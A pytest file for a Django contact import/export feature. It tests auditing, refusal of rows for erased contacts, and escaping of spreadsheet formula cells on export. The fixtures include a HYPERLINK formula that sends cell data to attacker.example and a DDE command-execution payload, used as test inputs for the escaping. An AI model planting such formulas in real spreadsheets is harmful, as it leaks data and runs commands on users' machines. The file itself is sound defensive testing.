"""The contact CSV/XLSX import and export (django-import-export): audited and refused like the
API, and safe to open in a spreadsheet."""
import pytest
import tablib
from django.utils import timezone

from contacts.actions import upsert_contact
from contacts.models import Contact
from contacts.resources import ContactResource
from omni.models import AuditEntry

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'


@pytest.fixture
def importer(django_user_model):
    return django_user_model.objects.create_user("importer")


def rows(*values, headers=("external_id", "email", "first_name")) -> tablib.Dataset:
    dataset = tablib.Dataset(headers=list(headers))
    for row in values:
        dataset.append(list(row))
    return dataset


def audited_since(before: set) -> list[tuple]:
    """(action, external id, data, reason, actor id) of each entry written after `before`."""
    external_ids = dict(Contact.objects.values_list("pk", "external_id"))
    return sorted(
        (action, external_ids.get(contact_id), data, reason, actor_id)
        for action, contact_id, data, reason, actor_id in AuditEntry.objects.exclude(pk__in=before).values_list(
            "action", "contact_id", "data", "reason", "actor_id")
    )


def test_an_import_audits_every_contact_it_creates_or_changes(importer):
    # given two contacts, one about to change and one imported unchanged
    upsert_contact("crm-1", {"email": "ada@example.com", "first_name": "Ada"}, actor_label="test")
    upsert_contact("crm-2", {"email": "bob@example.com", "first_name": "Bob"}, actor_label="test")
    before = set(AuditEntry.objects.values_list("pk", flat=True))
    dataset = rows(["crm-1", "ada@example.com", "Augusta"], ["crm-2", "bob@example.com", "Bob"],
                   ["crm-3", "cy@example.com", "Cy"])

    # when
    result = ContactResource().import_data(dataset, dry_run=False, user=importer)

    # then one entry per created or changed contact, naming the fields, not their values
    assert not result.has_errors() and not result.has_validation_errors()
    assert audited_since(before) == [
        ("contact.created", "crm-3", {"fields": ["email", "external_id", "first_name"]}, "import", importer.pk),
        ("contact.updated", "crm-1", {"fields": ["first_name"]}, "import", importer.pk),
    ]


def test_a_dry_run_or_a_refused_file_audits_nothing(importer):
    before = set(AuditEntry.objects.values_list("pk", flat=True))

    ContactResource().import_data(rows(["crm-3", "cy@example.com", "Cy"]), dry_run=True, user=importer)
    ContactResource().import_data(rows(["crm-3", "cy@example.com", "Cy"], ["crm-4", "not an email", "Di"]),
                                  dry_run=False, user=importer)

    assert not Contact.objects.exists()
    assert audited_since(before) == []


def test_an_import_row_for_an_erased_contact_is_refused_naming_it_and_the_file_is_not_applied(importer):
    # given a contact erased on request
    erased, _ = upsert_contact("crm-9", {"email": "gone@example.com"}, actor_label="test")
    Contact.objects.filter(pk=erased.pk).update(email="", first_name="", erased_at=timezone.now())

    # when a file fills it in again
    result = ContactResource().import_data(rows(["crm-1", "ada@example.com", "Ada"],
                                                ["crm-9", "gone@example.com", "Back"]), dry_run=False, user=importer)

    # then that row is refused, saying why, and nothing of the file is stored
    assert result.has_validation_errors()
    [invalid] = result.invalid_rows
    assert invalid.number == 2
    assert "The contact with external_id 'crm-9' was erased and cannot be changed." in " ".join(
        invalid.error_dict["external_id"])
    erased.refresh_from_db()
    assert (erased.email, erased.first_name) == ("", "")
    assert not Contact.objects.filter(external_id="crm-1").exists()


# --- export ---------------------------------------------------------------------------------------

def test_the_contact_export_neutralizes_formula_cells_and_keeps_phone_numbers(db):
    Contact.objects.create(external_id="@SUM(A1)", email="eve@example.com", phone="+14155550100",
                           first_name=FORMULA, last_name="+cmd|' /C calc'!A0", attributes={"note": "-2+3"})

    exported = ContactResource().export()

    [row] = exported.dict
    assert row["first_name"] == "'" + FORMULA
    assert row["last_name"] == "'+cmd|' /C calc'!A0"
    assert row["external_id"] == "'@SUM(A1)"
    assert row["phone"] == "+14155550100"  # a plain number runs nothing, and imports back as it was
    assert row["email"] == "eve@example.com"


def test_an_exported_file_imports_back_unchanged(importer):
    contact = Contact.objects.create(external_id="crm-1", email="eve@example.com", phone="+14155550100",
                                     first_name=FORMULA, last_name="-minus")
    before = set(AuditEntry.objects.values_list("pk", flat=True))

    result = ContactResource().import_data(ContactResource().export(), dry_run=False, user=importer)

    assert not result.has_errors() and not result.has_validation_errors()
    contact.refresh_from_db()
    assert (contact.first_name, contact.last_name, contact.phone) == (FORMULA, "-minus", "+14155550100")
    assert audited_since(before) == []


def test_the_admin_csv_export_of_contacts_neutralizes_formula_cells(admin_client):
    import csv
    import io

    from django.urls import reverse

    Contact.objects.create(external_id="crm-1", email="eve@example.com", phone="+14155550100", first_name=FORMULA,
                           last_name="@SUM(A1)")
    columns = ["external_id", "phone", "first_name", "last_name"]

    response = admin_client.post(reverse("admin:contacts_contact_export"), {
        "resource": 0, "format": 0, **{f"contactresource_{name}": "on" for name in columns}})

    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row == {"external_id": "crm-1", "phone": "+14155550100", "first_name": "'" + FORMULA,
                   "last_name": "'@SUM(A1)"}
